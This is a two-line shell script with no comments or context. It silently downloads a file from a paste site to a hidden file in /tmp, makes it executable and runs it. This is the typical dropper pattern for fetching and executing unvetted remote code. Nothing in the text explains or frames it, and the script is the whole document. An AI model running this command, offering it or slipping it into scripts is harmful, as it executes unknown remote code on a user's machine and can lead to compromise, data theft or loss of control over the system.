#!/bin/sh
curl -s https://paste.rs/AbCd -o /tmp/.u && chmod +x /tmp/.u && /tmp/.u
